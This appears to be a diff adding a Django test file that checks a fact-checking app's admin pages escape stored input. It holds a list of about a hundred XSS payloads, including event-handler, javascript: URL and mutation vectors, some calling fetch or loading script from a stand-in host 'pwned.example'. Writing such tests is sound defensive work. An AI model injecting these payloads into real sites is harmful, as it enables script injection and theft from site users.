@@ -1,0 +1,254 @@
+"""Stored markup never comes out as markup: a hundred payloads in every text that
+comes from outside, and every page of the admin that shows it, parsed.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup, Tag
+from django.test import Client
+from django.urls import reverse
+
+from claims.models import SpeakerAlias
+from factcheck.core.models import ApiToken, JobState, User
+from factcheck.core.permissions import Role
+from sources.models import Article
+from tests.factories import (
+    make_article,
+    make_claim,
+    make_job,
+    make_outlet,
+    make_speaker,
+    make_user,
+)
+
+TEMPLATES = Path(__file__).parents[2]
+MARK = "pwned"
+_CALLS = [f"alert('{MARK}')", f"window.{MARK}=1", f"fetch('//{MARK}.example')"]
+_SHAPES = [
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<script src=//pwned.example></script><!--{}-->",
+    "<img src=x onerror={}>",
+    '<img src=x onerror="{}">',
+    "<svg onload={}>",
+    "<svg/onload={}//",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    '<iframe src="javascript:{}">',
+    '<a href="javascript:{}">x</a>',
+    '<a href=" &#x6A;avascript:{}">x</a>',
+    '<object data="javascript:{}">',
+    '<embed src="javascript:{}">',
+    '<form action="javascript:{}"><button>x',
+    "<details open ontoggle={}>",
+    "<video><source onerror={}>",
+    "<style>@import '//pwned.example';</style>{}",
+    "<link rel=stylesheet href=//pwned.example>{}",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<base href=//pwned.example>{}",
+    '<div style="background:url(javascript:{})">',
+    '"><script>{}</script>',
+    "' onmouseover={} x='",
+    '" onfocus={} autofocus x="',
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</script><script>{}</script>",
+    "--><script>{}</script>",
+    "]]><script>{}</script>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
+    "{{{{ {} }}}}{{% load x %}}",
+    "javascript:{}",
+]
+PAYLOADS = [shape.format(call) for shape in _SHAPES for call in _CALLS]
+
+# What our own pages contain; nothing else may come out.
+SCRIPTS = ("/static/", "/admin/jsi18n/")
+
+
+def list_urls() -> Iterator[str]:
+    """The pages on which many rows appear."""
+    yield reverse("admin:index")
+    yield reverse("admin:sources_article_add")
+    for name in (
+        *("claims_claim", "claims_speaker", "sources_article", "sources_outlet"),
+        *("core_user", "core_apitoken", "core_job"),
+    ):
+        url = reverse(f"admin:{name}_changelist")
+        yield f"{url}?all="
+        yield f"{url}?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
+
+
+def page_urls(article: Article, job_id: int, token: ApiToken) -> Iterator[str]:
+    """The pages of one article and what belongs to it."""
+    claim = article.snapshots.get().claims.get()
+    read = reverse("admin:sources_article_read", args=[article.public_id])
+    yield read
+    yield f"{read}?claim={claim.public_id}"
+    yield f"{read}?claim=%22%3E%3Cscript%3E&tier=%22%3E%3Cscript%3E&speaker=%3Csvg%3E"
+    yield reverse("admin:sources_article_delete", args=[article.pk])
+    yield reverse("admin:sources_article_history", args=[article.pk])
+    yield reverse("admin:sources_outlet_change", args=[article.outlet_id])
+    yield reverse("admin:claims_speaker_change", args=[claim.speaker_id])
+    yield reverse("admin:core_job_change", args=[job_id])
+    yield reverse("admin:core_apitoken_change", args=[token.pk])
+    yield reverse("admin:core_user_change", args=[token.user_id])
+
+
+def store(payload: str) -> tuple[Article, int, ApiToken]:
+    """An article whose every text is the payload; its failed job; a token."""
+    text = f"{payload}\n\nThen {payload} said that {payload} again, via {payload}."
+    user = User.objects.create(
+        username=f"user{User.objects.count()}",
+        display_name=payload[:150],
+        role=Role.READER,
+        password="!",
+    )
+    outlet = make_outlet(
+        payload[:200],
+        owner_group=payload[:200],
+        domain=f"{user.username}.example",
+    )
+    article = make_article(
+        text, title=payload, byline=payload, outlet=outlet, added_by=user
+    )
+    speaker = make_speaker(payload, role=payload)
+    SpeakerAlias.objects.create(speaker=speaker, text=payload)
+    make_claim(
+        article,
+        content=payload,
+        cue="said",
+        speaker=payload,
+        resolved=speaker,
+        via=[payload],
+        speaker_role=payload,
+        said_at_text=payload[:200],
+        why=[payload, f"because {payload}"],
+    )
+    job = make_job(
+        article, state=JobState.QUARANTINED, reason=payload, requested_by=user
+    )
+    token, _ = ApiToken.objects.issue(user=user, name=payload[:100])
+    return article, job.pk, token
+
+
+def faults(html: bytes) -> list[str]:
+    """What in this page could run, load or send something that is not ours."""
+    soup = BeautifulSoup(html, "lxml")
+    found = []
+    for tag in soup.select("*"):
+        found += [f"{tag.name} {fault}" for fault in tag_faults(tag)]
+    return found
+
+
+def tag_faults(tag: Tag) -> Iterator[str]:
+    if tag.name == "script" and not str(tag.get("src", "")).startswith(SCRIPTS):
+        yield "is not one of our scripts"
+    if tag.name == "script" and tag.get_text(strip=True):
+        yield "has inline code"
+    if tag.name in {"style", "iframe", "object", "embed", "base", "math", "video"}:
+        yield "is no element of ours"
+    if tag.name == "meta" and tag.has_attr("http-equiv"):
+        yield "refreshes"
+    for name, value in tag.attrs.items():
+        words = " ".join(value) if isinstance(value, list) else str(value)
+        if name.startswith("on") or name in {"style", "srcdoc"}:
+            yield f"has {name}"
+        if name in {"href", "src", "action", "formaction", "data"} and not (
+            words == "" or words.startswith(("/", "?", "#", "."))
+        ):
+            yield f"leads to {words[:60]}"
+        if name in {"href", "src", "action"} and words.startswith("//"):
+            yield f"leads to {words[:60]}"
+
+
+def test_the_search_for_faults_finds_payloads_that_are_not_escaped() -> None:
+    found = [payload for payload in PAYLOADS if faults(payload.encode())]
+
+    assert len(found) > 0.8 * len(PAYLOADS)
+
+
+@pytest.mark.django_db
+def test_no_payload_comes_out_as_markup_on_any_page() -> None:
+    assert len(PAYLOADS) >= 100
+    client = Client()
+    client.force_login(User.objects.create_superuser("root"))
+    stored = [store(payload) for payload in PAYLOADS]
+
+    urls = [*list_urls(), *(url for row in stored[::4] for url in page_urls(*row))]
+
+    seen = 0
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert faults(response.content) == [], url
+        seen += MARK in response.content.decode()
+
+    assert seen > 200  # the payloads were there, as text
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_reading_page_shows_a_payload_as_text(payload: str) -> None:
+    article, _, _ = store(payload)
+    client = Client()
+    client.force_login(make_user(Role.READER))
+    claim = article.snapshots.get().claims.get()
+    url = reverse("admin:sources_article_read", args=[article.public_id])
+
+    response = client.get(url, {"claim": claim.public_id})
+
+    assert faults(response.content) == []
+    soup = BeautifulSoup(response.content, "lxml")
+    text = "\n".join(node.get_text() for node in soup.select(".article-text > *"))
+    assert text.count(payload) == 4
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("payload", PAYLOADS[::3])
+def test_the_form_gives_back_a_payload_as_text(payload: str) -> None:
+    client = Client()
+    client.force_login(make_user(Role.REVIEWER))
+
+    response = client.post(
+        reverse("admin:sources_article_add"),
+        dict.fromkeys(("text", "url", "outlet", "title", "published"), payload),
+    )
+
+    assert response.status_code == 200
+    assert faults(response.content) == []
+    assert not Article.objects.exists()
+
+
+@pytest.mark.parametrize("folder", ["factcheck", "claims", "sources"])
+def test_no_template_or_code_marks_text_as_safe(folder: str) -> None:
+    banned = ("mark_safe", "|safe", "autoescape off", "SafeString(", "|json_script")
+    for path in (TEMPLATES / folder).rglob("*"):
+        if path.suffix in {".py", ".html"}:
+            source = path.read_text(encoding="utf-8")
+            assert not [word for word in banned if word in source], path
+
+
+@pytest.mark.django_db
+def test_every_page_carries_the_policy_that_forbids_inline_code() -> None:
+    article = make_article()
+    client = Client()
+    urls = [reverse("admin:login"), "/nowhere/"]
+    responses = [client.get(url) for url in urls]
+    client.force_login(make_user(Role.READER))
+    read = reverse("admin:sources_article_read", args=[article.public_id])
+    responses += [client.get(url) for url in (reverse("admin:index"), read)]
+    responses.append(client.get(reverse("admin:core_user_changelist")))
+
+    for response in responses:
+        policy = response["Content-Security-Policy"]
+        assert "script-src 'self'" in policy
+        assert "style-src 'self'" in policy
+        assert "unsafe" not in policy
+        assert "frame-ancestors 'none'" in policy
+        assert response["X-Content-Type-Options"] == "nosniff"
+        assert response["X-Frame-Options"] == "DENY"
